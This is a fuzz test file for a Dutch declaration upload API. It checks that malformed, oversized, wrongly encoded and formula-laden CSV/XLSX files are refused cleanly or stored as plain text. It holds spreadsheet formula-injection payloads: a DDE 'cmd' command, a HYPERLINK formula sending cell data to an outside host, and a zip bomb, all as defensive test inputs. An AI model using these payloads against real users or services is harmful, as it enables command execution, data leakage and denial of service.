"""Issue 6, part 5: fuzzing the declaration upload (CSV and XLSX, ``POST /api/v1/declaraties``,
multipart field ``bestand``) with malformed, huge, wrongly encoded and formula-injection files.

Whatever arrives, the answer is a 201/200 (a good file), or a refusal 400/409 as problem+json
with a stable ``code`` (and a code per invalidParam); never a 500, and a refusal stores nothing.
A cell that looks like a formula is data: stored as the text it is, never evaluated.

The hand-picked cases of the upload are in tests/declaraties/test_upload.py; here hypothesis
makes the files. ``FUZZ_EXAMPLES`` raises the number of examples (``make fuzz``)."""

import datetime
import io
import os
import string
import time
import zipfile

import pytest
import time_machine
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.utils.exceptions import IllegalCharacterError

from declaraties import upload
from declaraties.models import Declaratie, Prestatie
from tests.declaraties.test_upload import csv_bytes, noon, post, rows, xlsx_bytes
from tests.trajecten.helpers import approved_traject

pytestmark = pytest.mark.django_db
N = max(10, 10 * int(os.environ.get("FUZZ_EXAMPLES", "1")))
FUZZ = settings(
    max_examples=N,
    deadline=None,
    database=None,
    derandomize=True,
    suppress_health_check=list(HealthCheck),
)


@pytest.fixture(autouse=True)
def clock():
    with time_machine.travel(noon(datetime.date(2026, 1, 15)), tick=False) as traveller:
        yield traveller


@pytest.fixture
def nummer(world, clock):
    traject = approved_traject(world, perceel="uwv-ips-epa", doelgroep="epa")
    clock.move_to(noon(datetime.date(2026, 2, 3)))
    return traject["toewijzingNummer"]


def stored() -> tuple[int, int]:
    return Declaratie.objects.count(), Prestatie.objects.count()


def answer(world, content: bytes, name: str) -> tuple[int, dict]:
    """Post the file; check the contract every answer must keep; answers (status, body)."""
    before = stored()
    started = time.monotonic()
    response = post(world, content, name=name)
    assert time.monotonic() - started < 20, "een bestand mag de server niet lang bezighouden"
    assert response.status_code in (200, 201, 400, 409), (response.status_code, response.content[:500])
    body = response.json()
    if response.status_code >= 400:
        assert response.headers["Content-Type"] == "application/problem+json"
        assert body["code"] and body["status"] == response.status_code and body["detail"]
        for param in body.get("invalidParams", []):
            assert param["code"] and param["name"] and param["reason"], param
        assert stored() == before, "een geweigerd bestand liet iets achter"
    return response.status_code, body


# --- random files ------------------------------------------------------------------------------------


@FUZZ
@given(content=st.binary(min_size=0, max_size=4096), name=st.sampled_from(["d.csv", "d.xlsx", "d.CSV", "d.txt", "d"]))
def test_random_bytes(world, content, name):
    status, body = answer(world, content, name)
    assert status in (400, 409), body


CELL = st.one_of(
    st.text(max_size=40),
    st.sampled_from(
        [
            "=1+1",
            '=HYPERLINK("http://example.com/?x="&A1,"klik")',
            "+31612345678",
            "-2+3",
            "@SUM(A1:A2)",
            "=cmd|' /C calc'!A0",
            "\t=1",
            "\r=1",
            '"',
            '""',
            ";",
            "\x00",
            "1e999999999",
            "NaN",
            "-0",
            "9" * 30,
            "2026-02-30",
            "31-01-2026",
            "x" * 5000,
        ]
    ),
)


@st.composite
def mangled_csv(draw, nummer):
    data = [list(r) for r in rows(nummer)]
    for _ in range(draw(st.integers(0, 4))):  # replace some cells
        row = draw(st.integers(0, len(data) - 1))
        col = draw(st.integers(0, len(data[row]) - 1))
        data[row][col] = draw(CELL)
    sep = draw(st.sampled_from([";", ",", "\t", "|"]))
    encoding = draw(st.sampled_from(["utf-8", "utf-8", "latin-1", "cp1252", "utf-16", "utf-32"]))
    try:
        content = csv_bytes(data, sep=sep, encoding=encoding, bom=draw(st.booleans()))
    except UnicodeEncodeError:
        content = csv_bytes(data, sep=sep, encoding="utf-8")
    mutation = draw(st.sampled_from(["none", "truncate", "flip", "insert"]))
    if mutation == "truncate" and content:
        content = content[: draw(st.integers(0, len(content) - 1))]
    elif mutation == "flip" and content:
        at = draw(st.integers(0, len(content) - 1))
        content = content[:at] + bytes([content[at] ^ draw(st.integers(1, 255))]) + content[at + 1 :]
    elif mutation == "insert":
        at = draw(st.integers(0, len(content)))
        content = content[:at] + draw(st.binary(min_size=1, max_size=64)) + content[at:]
    return content


def test_mangled_csv(world, nummer):
    @FUZZ
    @given(content=mangled_csv(nummer))
    def run(content):
        status, body = answer(world, content, "declaratie.csv")
        if status in (200, 201):  # accepted: whatever looked like a formula is stored as text
            for line in body["prestaties"]:
                assert line["productReferentie"] == line["productReferentie"].strip()

    run()


@st.composite
def random_workbook(draw, nummer):
    data = [list(r) for r in rows(nummer)]
    value = st.one_of(
        CELL,
        st.integers(-(10**20), 10**20),
        st.floats(allow_nan=True, allow_infinity=True),
        st.booleans(),
        st.dates(),
        st.none(),
    )
    for _ in range(draw(st.integers(0, 4))):
        row = draw(st.integers(0, len(data) - 1))
        col = draw(st.integers(0, len(data[row]) - 1))
        data[row][col] = draw(value)
    try:
        content = xlsx_bytes(data)
    except (ValueError, TypeError, IllegalCharacterError):  # openpyxl refuses some values itself
        content = xlsx_bytes(rows(nummer))
    if draw(st.booleans()):  # damage the zip
        at = draw(st.integers(0, len(content) - 1))
        content = content[:at] + bytes([content[at] ^ 0xFF]) + content[at + 1 :]
    return content


def test_random_workbooks(world, nummer):
    @FUZZ
    @given(content=random_workbook(nummer))
    def run(content):
        answer(world, content, "declaratie.xlsx")

    run()


# --- the big, the deep and the tricky ---------------------------------------------------------------


def test_a_file_over_10_mb_is_refused_unread(world, nummer):
    content = csv_bytes(rows(nummer)) + b"#" * (upload.MAX_BYTES + 1)
    status, body = answer(world, content, "declaratie.csv")
    assert status == 400 and body["invalidParams"][0]["code"] == "bestand-te-groot"


def test_a_zip_bomb_is_refused_before_unpacking(world, nummer):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (upload.MAX_UITGEPAKT + 1))
    assert len(out.getvalue()) < 1024 * 1024  # small on the wire
    status, body = answer(world, out.getvalue(), "declaratie.xlsx")
    assert status == 400 and body["invalidParams"][0]["code"] == "bestand-te-groot"


def test_one_giant_cell_is_refused(world, nummer):
    data = rows(nummer)
    data[0][3] = "x" * 200_000  # beyond the csv module's field limit
    status, body = answer(world, csv_bytes(data), "declaratie.csv")
    assert status == 400 and body["invalidParams"][0]["code"] == "bestand-onleesbaar"


def test_too_many_rows_at_full_size(world, nummer):
    line = rows(nummer)[1]
    content = csv_bytes([line] * (upload.MAX_REGELS + 1))
    status, body = answer(world, content, "declaratie.csv")
    assert status == 400 and body["invalidParams"][0]["code"] == "te-veel-regels"


@pytest.mark.parametrize("value", ["1e5000", "1e999999999", "-1e999999999", "Infinity"])
def test_an_absurd_number_is_a_400_not_a_500(world, nummer, value):
    """Found by this fuzzing: ``1e5000`` as toewijzingNummer raised ValueError (500) and
    ``1e999999999`` made the server build an integer of a billion digits."""
    data = rows(nummer)
    data[0][4] = value
    status, body = answer(world, csv_bytes(data), "declaratie.csv")
    assert status == 400, body
    assert any(p["name"].endswith("toewijzingNummer") for p in body["invalidParams"]), body


@pytest.mark.parametrize("encoding", ["latin-1", "cp1252", "utf-16", "utf-32"])
def test_wrong_encoding_is_refused_with_its_code(world, nummer, encoding):
    data = rows(nummer)
    data[0][3] = "Référence-é"
    status, body = answer(world, csv_bytes(data, encoding=encoding), "declaratie.csv")
    assert status == 400
    assert body["invalidParams"][0]["code"] == "codering-ongeldig"


@pytest.mark.parametrize("formula", ["=1+1", '=HYPERLINK("http://x")', "+1", "-1+1", "@SUM(A1)", "=cmd|'/C calc'!A0"])
def test_formula_injection_is_stored_as_text(world, nummer, formula):
    """A reference that looks like a formula is just text: never evaluated, stored as sent (the
    exports neutralise such cells when they write them; backoffice/spreadsheet.py)."""
    data = rows(nummer)
    data[0][3] = formula[:20]
    status, body = answer(world, csv_bytes(data), "declaratie.csv")
    assert status == 201, body
    assert body["prestaties"][0]["productReferentie"] == formula[:20]


def test_printable_noise_in_every_column(world, nummer):
    """Each column in turn filled with punctuation: a refusal names the row and the column."""
    for col, kolom in enumerate(upload.KOLOMMEN):
        data = rows(nummer, declaratie=f"N{col}")
        data[0][col] = string.punctuation.replace(";", "")
        status, body = answer(world, csv_bytes(data), "declaratie.csv")
        if status == 400 and body["code"] == "ongeldige-invoer":
            names = {p["name"] for p in body["invalidParams"]}
            assert any(kolom in n or n == "bestand" for n in names), (kolom, names)
